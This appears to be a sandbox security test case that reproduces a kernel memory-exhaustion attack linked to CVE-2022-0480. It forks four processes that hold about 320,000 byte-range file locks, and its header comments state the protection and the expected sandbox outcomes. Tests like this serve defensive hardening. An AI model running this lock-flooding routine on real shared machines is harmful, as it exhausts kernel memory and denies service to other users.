# tries: to fill the kernel's memory with file locks, one for each byte of many files, in many processes
# incident: CVE-2022-0480: file locks are charged to no cgroup. 2.4 million of them took 439 MB of the machine's memory,
#   with 66 MB on the job's own account
# protection: the worker counts the locks of each job and ends one with more than 2048
# inside: memory_limit
# gvisor: timeout | "320,000 locks are held"
# outside: few locks left, next at once
# within: 20s
import fcntl, os, time


def hold(number):
    files = [os.open(f"/tmp/{number}-{i}", os.O_CREAT | os.O_RDWR) for i in range(20)]
    for start in range(0, 8000, 2):
        for fd in files:
            fcntl.lockf(fd, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, start)


def main():
    for number in range(4):
        if os.fork() == 0:
            hold(number)
            time.sleep(10)
            os._exit(0)
    for _ in range(4):
        os.wait()
    return "320,000 locks are held"
